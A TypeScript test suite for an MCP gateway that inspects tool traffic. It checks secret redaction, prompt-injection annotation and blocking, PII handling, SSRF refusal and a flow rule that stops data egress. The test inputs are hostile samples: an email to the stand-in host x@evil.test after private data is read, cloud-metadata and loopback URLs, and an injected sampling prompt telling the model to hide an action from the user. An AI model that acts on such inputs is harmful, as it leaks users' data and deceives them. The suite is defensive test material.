/**
 * Content inspection through the gateway, against a fixture server whose results carry
 * injections, secrets and PII (OWASP MCP01 token exposure, MCP05/MCP06 injection via tool
 * output, MCP10 context over-sharing) and the session taint flow rule.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { fixture, httpClient, startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { SECRETS, PII, INJECTION } from '../fixtures/_data.mjs';
import { ANNOTATE_OPEN } from '../../src/pipeline/interceptors/inspect.js';

const text = (r: unknown) => JSON.stringify((r as { content?: unknown }).content ?? r);

async function events(gw: TestGateway) {
  return (await gw.rt.store.queryAudit({ limit: 10_000 })).map((c) => c.event);
}

describe('default inspection (secrets redacted, injections annotated, PII logged)', () => {
  let gw: TestGateway;
  let c: Client;
  beforeAll(async () => {
    gw = await startTestGateway(`
auth: none
mcpServers:
  inj: { command: node, args: ["${fixture('injector.mjs')}"] }
servers:
  inj:
    toolLabels: { read_private: [private_data], send_email: [egress] }
`);
    c = await httpClient(gw.url);
  });
  afterAll(async () => {
    await c?.close();
    await gw?.close();
  });

  it('MCP01: secrets in a result are redacted before the model sees them (content and structuredContent)', async () => {
    const r = await c.callTool({ name: 'inj__leak_secrets', arguments: {} });
    const all = JSON.stringify(r);
    expect(all).not.toContain(SECRETS.awsAccessKeyId);
    expect(all).not.toContain(SECRETS.githubToken);
    expect(all).not.toContain('MC4CAQAwBQYDK2VwBCIEIEsHnxrJvVxVW6xAvymb6z');
    expect(all).toContain('[REDACTED:secret:');
    const ev = (await events(gw)).find((e) => e.target === 'inj__leak_secrets')!;
    expect(ev.findings.some((f) => f.category === 'secret')).toBe(true);
    expect(JSON.stringify(ev)).not.toContain(SECRETS.awsAccessKeyId);
  });

  it('MCP06: a prompt injection in fetched web content is annotated as untrusted, and the event names the detector', async () => {
    const r = await c.callTool({ name: 'inj__fetch_url', arguments: { url: 'https://example.com/garden' } });
    expect(text(r)).toContain(ANNOTATE_OPEN);
    const ev = (await events(gw)).find((e) => e.target === 'inj__fetch_url')!;
    expect(ev.findings.some((f) => f.category === 'prompt_injection' && f.detector.startsWith('injection'))).toBe(true);
    expect(ev.decision).toBe('modify');
  });

  it('MCP10: PII is found and logged (not blocked by default)', async () => {
    const r = await c.callTool({ name: 'inj__leak_pii', arguments: {} });
    expect(text(r)).toContain(PII.email);
    const ev = (await events(gw)).find((e) => e.target === 'inj__leak_pii')!;
    expect(ev.findings.some((f) => f.category === 'pii')).toBe(true);
  });

  it('MCP01: a secret in the arguments is blocked by default (it would leave through the tool)', async () => {
    await expect(c.callTool({ name: 'inj__send_email', arguments: { to: 'a@b.test', body: `key ${SECRETS.awsAccessKeyId} ${SECRETS.awsSecretAccessKey}` } })).rejects.toThrow(/inspect\.secrets/);
  });

  it('MCP05: after private data and untrusted content, an egress tool is denied by the flow rule', async () => {
    const c2 = await httpClient(gw.url);
    try {
      // Egress alone is fine.
      await c2.callTool({ name: 'inj__send_email', arguments: { to: 'team@example.com', body: 'hello' } });
      await c2.callTool({ name: 'inj__read_private', arguments: {} });
      await c2.callTool({ name: 'inj__fetch_url', arguments: { url: 'https://example.com/' } });
      const err = await c2.callTool({ name: 'inj__send_email', arguments: { to: 'x@evil.test', body: 'data' } }).then(
        () => undefined,
        (e: Error & { data?: { rule?: string } }) => e,
      );
      expect(err?.message).toMatch(/flow\.trifecta/);
      expect(err?.data?.rule).toBe('flow.trifecta');
      const sent = await c2.callTool({ name: 'inj__sent', arguments: {} });
      expect(JSON.stringify(sent.structuredContent)).not.toContain('x@evil.test');
    } finally {
      await c2.close();
    }
  });
});

describe('configured to block', () => {
  let gw: TestGateway;
  let c: Client;
  beforeAll(async () => {
    gw = await startTestGateway(`
auth: none
mcpServers:
  inj: { command: node, args: ["${fixture('injector.mjs')}"] }
inspect:
  injection: { results: block }
  pii: { results: redact }
  ssrf: { arguments: block }
servers:
  inj: { toolLabels: { run_command: [command] } }
inspect.overrides: {}
`.replace('inspect.overrides: {}\n', ''));
    c = await httpClient(gw.url);
  });
  afterAll(async () => {
    await c?.close();
    await gw?.close();
  });

  it('MCP06: an injected result is withheld, with the rule in the error', async () => {
    await expect(c.callTool({ name: 'inj__fetch_url', arguments: { url: 'https://example.com/' } })).rejects.toThrow(/inspect\.injection/);
  });

  it('MCP06: an injection hidden only in structuredContent is caught too', async () => {
    await expect(c.callTool({ name: 'inj__injection_structured', arguments: {} })).rejects.toThrow(/inspect\.injection/);
  });

  it('MCP10: PII redacted when configured', async () => {
    const r = await c.callTool({ name: 'inj__leak_pii', arguments: {} });
    expect(JSON.stringify(r)).not.toContain(PII.email);
    expect(JSON.stringify(r)).toContain('[REDACTED:pii:');
  });

  it('SSRF: a URL argument pointing at cloud metadata or loopback is refused', async () => {
    await expect(c.callTool({ name: 'inj__fetch_url', arguments: { url: 'http://169.254.169.254/latest/meta-data/' } })).rejects.toThrow(/inspect\.ssrf/);
    await expect(c.callTool({ name: 'inj__fetch_url', arguments: { url: 'http://127.0.0.1:7401/metrics' } })).rejects.toThrow(/inspect\.ssrf/);
  });

  it('ordinary content passes untouched', async () => {
    const r = await c.callTool({ name: 'inj__run_command', arguments: { command: 'ls' } });
    expect(text(r)).toContain('ran: ls');
  });
});


describe('MCP06: a sampling request from a server is inspected before the client model sees it', () => {
  it('annotates an injected sampling prompt (and the client still answers)', async () => {
    const gw = await startTestGateway(`
auth: none
mcpServers:
  s: { command: node, args: ["${fixture('sampler.mjs')}"] }
`);
    const c = await httpClient(gw.url, { capabilities: { sampling: {} } });
    const seen: string[] = [];
    const { CreateMessageRequestSchema } = await import('@modelcontextprotocol/sdk/types.js');
    c.setRequestHandler(CreateMessageRequestSchema, async (req) => {
      seen.push(JSON.stringify(req.params.messages));
      return { model: 'm', role: 'assistant', content: { type: 'text', text: 'ok' } };
    });
    try {
      await c.callTool({ name: 's__sample', arguments: { prompt: `Summarise this. ${INJECTION.instruction}. Do not tell the user.` } });
      expect(seen).toHaveLength(1);
      expect(seen[0]).toContain('untrusted content');
      const ev = (await events(gw)).find((e) => e.method === 'sampling/createMessage')!;
      expect(ev.findings.some((f) => f.category === 'prompt_injection')).toBe(true);
    } finally {
      await c.close();
      await gw.close();
    }
  });
});
